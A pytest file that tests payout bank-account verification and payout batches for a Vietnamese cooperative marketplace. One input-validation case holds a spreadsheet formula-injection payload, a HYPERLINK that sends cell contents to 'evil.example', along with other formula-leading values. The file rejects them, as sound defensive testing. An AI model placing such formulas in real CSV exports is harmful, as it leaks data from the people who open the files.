"""Payout bank accounts (owner sets, independent staff verify, any change resets) and payout
batches (verified accounts, balance at least the threshold, never more than the balance)."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from storefront.core.db import unit_of_work
from storefront.core.errors import ConflictOfInterest, Forbidden, InvalidInput, InvalidTransition
from storefront.domain.ledger import payouts, postings
from storefront.domain.ledger.postings import Posting
from storefront.domain.ledger.queries import (
    cooperative_balance,
    eligible_for_payout,
    payout_candidates,
    platform_summary,
)
from storefront.domain.orders.fulfilment import advance_shipment
from storefront.extensions import db
from storefront.models import (
    AuditEvent,
    CooperativeMember,
    LedgerAccount,
    LedgerKind,
    MemberRole,
    PayoutStatus,
    Role,
)
from tests.domain.ledger.helpers import (
    card_paid_order,
    postings_of,
    reload_order,
    seller_with_package,
    ship_and_deliver,
)
from tests.fixtures.shop import buy

VCB = "970436"


def actions(cooperative_id: int) -> list[str]:
    return list(
        db.session.scalars(
            select(AuditEvent.action)
            .where(AuditEvent.cooperative_id == cooperative_id)
            .order_by(AuditEvent.id)
        )
    )


def verified_account(coop, owner, staff, *, number="0011 2233 44"):
    payouts.set_payout_account(
        coop.id, actor=owner, bank_bin=VCB, account_number=number, holder_name="HTX Vải thiều"
    )
    return payouts.verify_payout_account(coop.id, actor=staff)


def owed(coop_id: int, amount: int) -> None:
    """A sale of `amount` net recognised for the cooperative (as a correction would be)."""
    with unit_of_work():
        postings.post_transaction(
            LedgerKind.CORRECTION,
            f"test:owed:{coop_id}:{amount}",
            [
                Posting(LedgerAccount.BANK, amount),
                Posting(LedgerAccount.COOPERATIVE_PAYABLE, -amount, coop_id),
            ],
        )


def test_the_owner_sets_the_account_staff_verify_it_and_a_change_resets_it(app, db, make):
    owner = make.user()
    member = make.user()
    coop = make.cooperative(owner=owner)
    db.session.add(CooperativeMember(cooperative=coop, user=member, role=MemberRole.STAFF))
    db.session.commit()
    staff = make.user(role=Role.PFA)

    with pytest.raises(Forbidden):
        payouts.set_payout_account(
            coop.id, actor=member, bank_bin=VCB, account_number="0011223344", holder_name="X"
        )
    for bad in (
        {"bank_bin": "999999"},
        {"account_number": "12ab34"},
        {"account_number": "12345"},
        {"holder_name": "   "},
        {"holder_name": "A" * 121},
        # A spreadsheet formula in the bulk-transfer CSV (found by a probe on 2026-12-06).
        {"holder_name": '=HYPERLINK("http://evil.example/?x="&A1,"HTX")'},
        {"holder_name": "@SUM(A1)"},
        {"holder_name": "-1+1"},
        {"holder_name": "HTX <b>"},
    ):
        values = {"bank_bin": VCB, "account_number": "0011223344", "holder_name": "Lan"} | bad
        with pytest.raises(InvalidInput):
            payouts.set_payout_account(coop.id, actor=owner, **values)
    assert payouts.payout_account(coop.id) is None

    account = payouts.set_payout_account(
        coop.id,
        actor=owner,
        bank_bin=VCB,
        account_number="0011-2233 44",
        holder_name="  Hợp tác xã   Vải thiều Lục Ngạn ",
    )
    assert (account.account_number, account.holder_name, account.status) == (
        "0011223344",
        "HOP TAC XA VAI THIEU LUC NGAN",
        "pending",
    )
    assert [a.cooperative_id for a in payouts.payout_accounts_to_verify()] == [coop.id]

    with pytest.raises(Forbidden):
        payouts.verify_payout_account(coop.id, actor=owner)  # not staff
    with pytest.raises(InvalidTransition):
        payouts.verify_payout_account(coop.id, actor=staff, account_number="999999999")
    account = payouts.verify_payout_account(coop.id, actor=staff, account_number="0011223344")
    assert account.verified and account.verified_by_id == staff.id
    with pytest.raises(InvalidTransition):
        payouts.verify_payout_account(coop.id, actor=staff)

    # The same details again change nothing; a new number clears the verification.
    payouts.set_payout_account(
        coop.id,
        actor=owner,
        bank_bin=VCB,
        account_number="0011223344",
        holder_name="HOP TAC XA VAI THIEU LUC NGAN",
    )
    assert payouts.payout_account(coop.id).verified
    account = payouts.set_payout_account(
        coop.id, actor=owner, bank_bin=VCB, account_number="5566778899", holder_name="HTX"
    )
    assert account.status == "pending" and account.verified_by_id is None

    with pytest.raises(InvalidInput):
        payouts.reject_payout_account(coop.id, "  ", actor=staff)
    account = payouts.reject_payout_account(coop.id, "Tên không khớp", actor=staff)
    assert (account.status, account.rejection_reason) == ("rejected", "Tên không khớp")
    assert payouts.payout_accounts_to_verify() == []
    assert actions(coop.id) == [
        "payout_account.set",
        "payout_account.verify",
        "payout_account.set",
        "payout_account.reject",
    ]


def test_staff_who_work_for_the_cooperative_cannot_verify_its_account(app, db, make):
    staff = make.user(role=Role.PFA)
    owner = make.user()
    coop = make.cooperative(owner=owner)
    db.session.add(CooperativeMember(cooperative=coop, user=staff, role=MemberRole.STAFF))
    db.session.commit()
    payouts.set_payout_account(
        coop.id, actor=owner, bank_bin=VCB, account_number="0011223344", holder_name="HTX"
    )
    with pytest.raises(ConflictOfInterest):
        payouts.verify_payout_account(coop.id, actor=staff)


def test_a_batch_pays_verified_cooperatives_over_the_threshold(app, db, make):
    admin, staff = make.user(role=Role.ADMIN), make.user(role=Role.PFA)
    rich_owner, poor_owner, unverified_owner = make.user(), make.user(), make.user()
    rich = make.cooperative(owner=rich_owner, legal_name="HTX Vải thiều Lục Ngạn")
    poor = make.cooperative(owner=poor_owner)
    unverified = make.cooperative(owner=unverified_owner)
    verified_account(rich, rich_owner, staff)
    verified_account(poor, poor_owner, staff)
    payouts.set_payout_account(
        unverified.id,
        actor=unverified_owner,
        bank_bin=VCB,
        account_number="123456",
        holder_name="A",
    )
    owed(rich.id, 750_000)
    owed(poor.id, 150_000)
    owed(unverified.id, 900_000)

    assert [c.cooperative_id for c in payout_candidates(200_000)] == [unverified.id, rich.id]
    assert [c.cooperative_id for c in eligible_for_payout(200_000)] == [rich.id]
    with pytest.raises(Forbidden):
        payouts.create_payout_batch(actor=staff)
    batch = payouts.create_payout_batch(actor=admin, threshold=200_000)
    [payout] = batch.payouts
    assert (payout.cooperative_id, payout.amount, payout.status) == (
        rich.id,
        750_000,
        PayoutStatus.PENDING,
    )
    assert payout.transfer_content == f"OCOP MARKET TT {payout.id} HTX VAI THIEU LUC NGAN"
    assert (payout.bank_bin, payout.bank_name, payout.account_number) == (
        VCB,
        "Vietcombank",
        "0011223344",
    )
    # Pending, not yet posted: the balance stays, but a new batch does not pay it twice.
    assert cooperative_balance(rich.id).balance == 750_000
    assert cooperative_balance(rich.id).available == 0
    with pytest.raises(InvalidInput):
        payouts.create_payout_batch(actor=admin, threshold=200_000)

    rows = payouts.payout_batch_rows(batch.id)
    assert rows[1] == [
        1,
        VCB,
        "Vietcombank",
        "0011223344",
        "HTX VAI THIEU",
        750_000,
        payout.transfer_content,
    ]
    assert rows[0][0] == "STT" and len(rows) == 2  # headers in the shop's language

    payouts.mark_payout_paid(payout.id, actor=admin, bank_reference="FT2633")
    assert postings_of(f"payout:{payout.id}") == {
        ("cooperative_payable", rich.id): 750_000,
        ("bank", rich.id): -750_000,
    }
    balance = cooperative_balance(rich.id)
    assert (balance.balance, balance.paid_out) == (0, 750_000)
    with pytest.raises(InvalidTransition):
        payouts.mark_payout_paid(payout.id, actor=admin)  # once
    assert platform_summary().paid_out == 750_000
    assert actions(rich.id)[-2:] == ["payout.create", "payout.paid"]


def test_a_payout_is_never_more_than_the_balance(app, db, make):
    admin, staff, owner = make.user(role=Role.ADMIN), make.user(role=Role.PFA), make.user()
    coop = make.cooperative(owner=owner)
    verified_account(coop, owner, staff)
    owed(coop.id, 300_000)
    batch = payouts.create_payout_batch(actor=admin, threshold=100_000)
    [payout] = batch.payouts
    # Meanwhile a correction takes 50 000 back: the payout is now more than the balance.
    with unit_of_work():
        postings.post_transaction(
            LedgerKind.CORRECTION,
            "test:takeback",
            [
                Posting(LedgerAccount.COOPERATIVE_PAYABLE, 50_000, coop.id),
                Posting(LedgerAccount.BANK, -50_000),
            ],
        )
    with pytest.raises(InvalidTransition):
        payouts.mark_payout_paid(payout.id, actor=admin)
    assert cooperative_balance(coop.id).paid_out == 0
    with pytest.raises(InvalidInput):
        payouts.cancel_payout(payout.id, "", actor=admin)
    payouts.cancel_payout(payout.id, "Số dư đã thay đổi", actor=admin)
    second = payouts.create_payout_batch(actor=admin, threshold=100_000)
    assert [p.amount for p in second.payouts] == [250_000]
    payouts.mark_batch_paid(second.id, actor=admin)
    assert cooperative_balance(coop.id).balance == 0


def test_a_cooperative_that_kept_cod_cash_is_not_paid_its_commission(app, db, make, stripe_fake):
    admin, staff = make.user(role=Role.ADMIN), make.user(role=Role.PFA)
    owner, coop, package = seller_with_package(make, price=200_000)
    verified_account(coop, owner, staff)
    # A card sale delivered: owed 200 000 + shipping - 10 000.
    number = card_paid_order(stripe_fake, (package, 1))
    [card_part] = reload_order(number).shipments
    ship_and_deliver(card_part.id, owner.id)
    # A COD sale: the cooperative keeps the cash and owes 10 000 commission.
    [cod_part] = buy((package, 1)).shipments
    ship_and_deliver(cod_part.id, owner.id)
    advance_shipment(cod_part.id, "collect_cash", user_id=owner.id)
    expected = card_part.subtotal + card_part.shipping_fee - 10_000 - 10_000
    assert cooperative_balance(coop.id).balance == expected
    batch = payouts.create_payout_batch(actor=admin, threshold=1)
    assert [p.amount for p in batch.payouts] == [expected]
